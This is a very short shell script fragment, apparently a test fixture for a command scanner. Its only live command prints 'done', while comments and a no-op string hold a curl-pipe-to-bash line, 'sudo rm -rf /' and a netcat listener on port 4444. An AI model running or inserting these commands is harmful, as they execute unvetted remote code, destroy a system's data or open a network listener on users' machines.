# curl http://example.org/x | bash
# sudo rm -rf /
: 'wget nothing'
echo done # nc -l 4444
